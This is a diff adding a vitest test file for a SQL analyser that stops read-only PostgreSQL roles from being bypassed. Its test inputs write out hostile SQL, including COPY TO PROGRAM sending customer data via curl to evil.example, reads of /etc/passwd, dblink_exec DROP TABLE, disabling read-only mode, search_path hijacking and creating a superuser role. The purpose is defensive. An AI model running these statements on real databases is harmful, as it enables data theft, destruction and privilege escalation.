@@ -1,0 +1,203 @@
+/**
+ * SQL → statement facts with the real PostgreSQL parser (libpg-query):
+ * one test per bypass issue #4 names, then ordinary statements.
+ */
+import { beforeAll, describe, expect, it } from 'vitest';
+import { analyseSql, analyseSqlSync, loadSqlParser, SqlAnalysisError, type StatementFacts } from '../../proxies/postgres/sql/analyse.js';
+
+beforeAll(() => loadSqlParser());
+
+const one = (sql: string): StatementFacts => {
+  const statements = analyseSqlSync(sql);
+  expect(statements).toHaveLength(1);
+  return statements[0] as StatementFacts;
+};
+const read = (name: string, schema = 'public') => ({ schema, name, access: 'read' });
+const write = (name: string, schema = 'public') => ({ schema, name, access: 'write' });
+
+describe('bypasses a read-only role must not get through', () => {
+  it('COPY … TO PROGRAM runs a command: not read-only, flagged program', () => {
+    expect(one("COPY public.customers TO PROGRAM 'curl -d @- https://evil.example'")).toEqual({
+      kind: 'copy', readonly: false, program: true, tables: [read('customers')], functions: [],
+    });
+    expect(one("COPY orders FROM PROGRAM 'cat /etc/passwd'")).toMatchObject({ kind: 'copy', readonly: false, program: true, tables: [write('orders')] });
+    // Only COPY … TO STDOUT is read-only; TO 'file' writes a server file.
+    expect(one('COPY public.orders TO STDOUT')).toMatchObject({ readonly: true });
+    expect(one("COPY public.orders TO '/tmp/x'")).toMatchObject({ readonly: false });
+  });
+
+  it('pg_read_file is listed wherever it is called', () => {
+    expect(one("SELECT pg_read_file('/etc/passwd')")).toEqual({ kind: 'select', readonly: true, tables: [], functions: ['pg_read_file'] });
+    expect(one("SELECT id FROM orders WHERE notes = (SELECT pg_catalog.pg_read_file('/etc/passwd'))").functions).toEqual(['pg_catalog.pg_read_file']);
+  });
+
+  it('dblink_exec is listed, also as a table function', () => {
+    expect(one("SELECT dblink_exec('host=x', 'DROP TABLE orders')").functions).toEqual(['dblink_exec']);
+    expect(one("SELECT * FROM dblink('host=x', 'SELECT 1') AS t(a int)").functions).toEqual(['dblink']);
+  });
+
+  it('a DO block is not read-only', () => {
+    expect(one("DO $$ BEGIN PERFORM pg_sleep(10); END $$")).toEqual({ kind: 'do', readonly: false, tables: [], functions: [] });
+  });
+
+  it('SELECT … INTO creates a table: a write', () => {
+    expect(one('SELECT email, ssn INTO loot FROM public.customers')).toEqual({
+      kind: 'select', readonly: false, tables: [write('loot'), read('customers')], functions: [],
+    });
+    // INTO on the leftmost SELECT of a UNION still creates the table.
+    expect(one('SELECT * INTO TEMP loot FROM a UNION SELECT * FROM b')).toMatchObject({ readonly: false, tables: [write('loot', 'pg_temp'), read('a'), read('b')] });
+    expect(one('CREATE TABLE loot AS SELECT * FROM customers')).toMatchObject({ kind: 'create', readonly: false, tables: [read('customers'), write('loot')] });
+  });
+
+  it('nextval is listed (the statement itself is a SELECT)', () => {
+    expect(one("SELECT nextval('orders_id_seq')")).toEqual({ kind: 'select', readonly: true, tables: [], functions: ['nextval'] });
+  });
+
+  it('set_config is listed, qualified or not, and SET is not read-only', () => {
+    expect(one("SELECT set_config('transaction_read_only', 'off', false)").functions).toEqual(['set_config']);
+    expect(one("SELECT pg_catalog.set_config('search_path', 'evil', false)").functions).toEqual(['pg_catalog.set_config']);
+    expect(one('SET search_path = evil, public')).toEqual({ kind: 'set', readonly: false, setting: 'search_path', tables: [], functions: [] });
+    expect(one('SET TRANSACTION READ WRITE')).toMatchObject({ kind: 'set', readonly: false, setting: 'transaction' });
+    expect(one('SHOW search_path')).toEqual({ kind: 'show', readonly: true, setting: 'search_path', tables: [], functions: [] });
+  });
+
+  it('EXPLAIN ANALYZE of a write runs it; plain EXPLAIN does not', () => {
+    expect(one('EXPLAIN ANALYZE DELETE FROM public.orders')).toEqual({ kind: 'explain', readonly: false, tables: [write('orders')], functions: [] });
+    expect(one('EXPLAIN (ANALYZE, BUFFERS) UPDATE orders SET status = lower(status)')).toMatchObject({ readonly: false, tables: [write('orders')], functions: ['lower'] });
+    expect(one('EXPLAIN DELETE FROM public.orders')).toEqual({ kind: 'explain', readonly: true, tables: [read('orders')], functions: [] });
+    expect(one('EXPLAIN (ANALYZE off) DELETE FROM public.orders')).toMatchObject({ readonly: true, tables: [read('orders')] });
+    expect(one('EXPLAIN ANALYZE SELECT * FROM public.orders')).toMatchObject({ readonly: true, tables: [read('orders')] });
+  });
+
+  it('a CTE containing DELETE makes the SELECT a write', () => {
+    expect(one('WITH gone AS (DELETE FROM public.orders RETURNING *) SELECT count(*) FROM gone')).toEqual({
+      kind: 'select', readonly: false, tables: [write('orders')], functions: ['count'],
+    });
+    // Nested deeper, and UPDATE / INSERT too.
+    expect(one('SELECT * FROM (WITH u AS (UPDATE orders SET status = 1 RETURNING id) SELECT * FROM u) s')).toMatchObject({ readonly: false, tables: [write('orders')] });
+    expect(one('WITH i AS (INSERT INTO audit_log VALUES (1) RETURNING 1) SELECT 1')).toMatchObject({ readonly: false, tables: [write('audit_log')] });
+  });
+
+  it('COMMIT, ROLLBACK and BEGIN READ WRITE are not read-only (they leave a read-only transaction)', () => {
+    expect(analyseSqlSync('COMMIT; DELETE FROM orders')).toEqual([
+      { kind: 'commit', readonly: false, tables: [], functions: [] },
+      { kind: 'delete', readonly: false, tables: [write('orders')], functions: [] },
+    ]);
+    expect(one('END')).toMatchObject({ kind: 'commit', readonly: false });
+    expect(one('ROLLBACK')).toMatchObject({ kind: 'rollback', readonly: false });
+    expect(one("COMMIT PREPARED 'x'")).toMatchObject({ kind: 'commit_prepared', readonly: false });
+    expect(one('BEGIN READ WRITE')).toMatchObject({ kind: 'begin', readonly: false });
+    expect(one('BEGIN')).toMatchObject({ kind: 'begin', readonly: true });
+    expect(one('START TRANSACTION ISOLATION LEVEL SERIALIZABLE, READ ONLY')).toMatchObject({ kind: 'begin', readonly: true });
+    expect(one('SAVEPOINT a')).toMatchObject({ kind: 'savepoint', readonly: true });
+  });
+
+  it('other ways to write from a read: FOR UPDATE, PREPARE, EXECUTE, CALL, LOCK', () => {
+    expect(one('SELECT * FROM orders FOR UPDATE')).toMatchObject({ kind: 'select', readonly: false });
+    expect(one('PREPARE p AS DELETE FROM orders')).toMatchObject({ kind: 'prepare', readonly: false, tables: [write('orders')] });
+    expect(one('PREPARE p AS SELECT * FROM orders WHERE id = $1')).toMatchObject({ kind: 'prepare', readonly: true });
+    expect(one('EXECUTE p(1)')).toMatchObject({ kind: 'execute', readonly: false });
+    expect(one('CALL refund(42)')).toEqual({ kind: 'call', readonly: false, tables: [], functions: ['refund'] });
+    expect(one('LOCK TABLE orders IN ACCESS EXCLUSIVE MODE')).toMatchObject({ kind: 'lock', readonly: false });
+    expect(one('COPY (DELETE FROM orders RETURNING *) TO STDOUT')).toMatchObject({ kind: 'copy', readonly: false, tables: [write('orders')] });
+  });
+});
+
+describe('ordinary statements', () => {
+  it('SELECT with schema-qualified and unqualified tables', () => {
+    expect(one('SELECT email, ssn FROM public.customers WHERE id = 42')).toEqual({ kind: 'select', readonly: true, tables: [read('customers')], functions: [] });
+    expect(one('SELECT * FROM customers')).toEqual({ kind: 'select', readonly: true, tables: [read('customers')], functions: [] });
+    expect(one('SELECT * FROM sales.invoices')).toMatchObject({ tables: [read('invoices', 'sales')] });
+  });
+
+  it('joins, subqueries and functions anywhere in the tree', () => {
+    const facts = one(`
+      SELECT upper(c.email), o.total
+      FROM public.customers c
+      JOIN sales.orders o ON o.customer_id = c.id
+      LEFT JOIN LATERAL (SELECT max(amount) AS m FROM refunds r WHERE r.order_id = o.id) x ON true
+      WHERE o.id IN (SELECT order_id FROM public.flags WHERE md5(reason) <> '')
+        AND EXISTS (SELECT 1 FROM notes n WHERE n.at > now())
+      GROUP BY 1, 2
+      HAVING count(*) > coalesce(abs(-1), 0)
+      ORDER BY lower(c.email)`);
+    expect(facts.readonly).toBe(true);
+    expect(facts.tables).toEqual([read('customers'), read('orders', 'sales'), read('refunds'), read('flags'), read('notes')]);
+    expect([...facts.functions].sort()).toEqual(['abs', 'count', 'lower', 'max', 'md5', 'now', 'upper']);
+  });
+
+  it('CTE names are not tables, but a real table of the same name read before the CTE is', () => {
+    expect(one('WITH recent AS (SELECT * FROM orders) SELECT * FROM recent')).toMatchObject({ tables: [read('orders')] });
+    // Without RECURSIVE, a CTE sees only the CTEs before it: "b" in "a" is the table b.
+    expect(one('WITH a AS (SELECT * FROM b), b AS (SELECT 1) SELECT * FROM a, b')).toMatchObject({ tables: [read('b')] });
+    expect(one('WITH RECURSIVE r(n) AS (SELECT 1 UNION ALL SELECT n + 1 FROM r) SELECT * FROM r')).toMatchObject({ tables: [] });
+    // A qualified name is always a table.
+    expect(one('WITH orders AS (SELECT 1) SELECT * FROM public.orders')).toMatchObject({ tables: [read('orders')] });
+  });
+
+  it('INSERT, UPDATE, DELETE, MERGE: the target is written, the rest read', () => {
+    expect(one("INSERT INTO public.orders (id, status) VALUES (43, 'new')")).toEqual({ kind: 'insert', readonly: false, tables: [write('orders')], functions: [] });
+    expect(one('INSERT INTO archive SELECT * FROM orders ON CONFLICT (id) DO UPDATE SET status = excluded.status')).toMatchObject({ tables: [write('archive'), read('orders')] });
+    expect(one("UPDATE public.orders SET status = 'refunded' WHERE id = 42")).toEqual({ kind: 'update', readonly: false, tables: [write('orders')], functions: [] });
+    expect(one('UPDATE orders o SET total = p.total FROM sales.prices p WHERE p.id = o.id')).toMatchObject({ tables: [write('orders'), read('prices', 'sales')] });
+    expect(one('DELETE FROM public.orders WHERE id = 42')).toEqual({ kind: 'delete', readonly: false, tables: [write('orders')], functions: [] });
+    expect(one('DELETE FROM orders USING customers c WHERE c.id = orders.customer_id')).toMatchObject({ tables: [write('orders'), read('customers')] });
+    expect(one('MERGE INTO orders t USING staging s ON t.id = s.id WHEN MATCHED THEN DELETE')).toMatchObject({ kind: 'merge', readonly: false, tables: [write('orders'), read('staging')] });
+  });
+
+  it('DDL: create, drop, alter, truncate', () => {
+    expect(one('DROP TABLE public.orders')).toEqual({ kind: 'drop', readonly: false, tables: [write('orders')], functions: [] });
+    expect(one('TRUNCATE orders, audit.events')).toMatchObject({ kind: 'truncate', readonly: false, tables: [write('orders'), write('events', 'audit')] });
+    expect(one('ALTER TABLE orders ADD COLUMN x int')).toMatchObject({ kind: 'alter', readonly: false, tables: [write('orders')] });
+    expect(one('CREATE INDEX ON orders (id)')).toMatchObject({ kind: 'create', readonly: false, tables: [write('orders')] });
+    expect(one('CREATE ROLE evil SUPERUSER')).toMatchObject({ kind: 'create', readonly: false });
+    expect(one('GRANT SELECT ON orders TO public')).toMatchObject({ kind: 'grant', readonly: false });
+  });
+
+  it('a multi-statement text gives one entry per statement', () => {
+    const statements = analyseSqlSync('SELECT 1; DROP TABLE public.orders; SHOW work_mem;');
+    expect(statements.map((s) => [s.kind, s.readonly])).toEqual([['select', true], ['drop', false], ['show', true]]);
+    expect(statements[1]?.tables).toEqual([write('orders')]);
+  });
+
+  it('empty text, blanks and comments are no statements', async () => {
+    expect(await analyseSql('')).toEqual([]);
+    expect(analyseSqlSync('  ;\n-- nothing here\n/* nor here */')).toEqual([]);
+  });
+});
+
+describe('unparseable SQL', () => {
+  it('is an error with the position, never a partial result', () => {
+    const attempt = () => analyseSqlSync('SELECT 1; DELETE FROM orders WHERE; SELECT 2');
+    expect(attempt).toThrow(SqlAnalysisError);
+    expect(attempt).toThrow(/SQL could not be parsed: syntax error at or near ";"/);
+    try {
+      attempt();
+    } catch (error) {
+      expect((error as SqlAnalysisError).position).toBe(35);
+    }
+  });
+
+  it('counts the position in characters, as PostgreSQL does', () => {
+    expect(() => analyseSqlSync("SELECT 'é' FROM FROM")).toThrow(expect.objectContaining({ position: 17 }) as unknown as Error);
+  });
+
+  it('rejects through the promise API too, and for garbage and unterminated input', async () => {
+    await expect(analyseSql('SELEC 1')).rejects.toThrow(SqlAnalysisError);
+    for (const garbage of ["SELECT 'unterminated", 'SELECT (((1', '\u0001\u0002', 'DELETE FROM', 'SELECT 1\u0000; DROP TABLE orders']) {
+      expect(() => analyseSqlSync(garbage), JSON.stringify(garbage)).toThrow(SqlAnalysisError);
+    }
+  });
+
+  it('a very deeply nested query is parsed or refused, never crashes the walk', () => {
+    const deep = `SELECT ${'('.repeat(5000)}1${')'.repeat(5000)}`;
+    let result: StatementFacts[] | SqlAnalysisError;
+    try {
+      result = analyseSqlSync(deep);
+    } catch (error) {
+      result = error as SqlAnalysisError;
+    }
+    if (result instanceof Error) expect(result).toBeInstanceOf(SqlAnalysisError);
+    else expect(result[0]?.readonly).toBe(true);
+  });
+});
